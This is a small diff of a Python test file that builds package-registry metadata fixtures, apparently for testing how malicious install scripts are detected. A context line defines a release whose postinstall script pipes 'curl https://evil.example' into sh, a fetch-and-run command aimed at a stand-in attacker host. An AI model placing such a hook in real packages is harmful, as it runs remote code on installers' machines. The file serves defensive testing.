@@ -29,7 +29,7 @@ def packument(*releases: tuple[str, str, dict[str, Any]]) -> dict[str, Any]:
     }
 
 
-PAST = [(f"1.{n}.0", f"2026-0{n + 1}-01T00:00:00Z", {}) for n in range(5)]
+PAST: list[tuple[str, str, dict[str, Any]]] = [(f"1.{n}.0", f"2026-0{n + 1}-01T00:00:00Z", {}) for n in range(5)]
 SCRIPT = ("1.5.0", "2026-06-01T00:00:00Z", {"scripts": {"postinstall": "curl https://evil.example | sh"}})
 
 
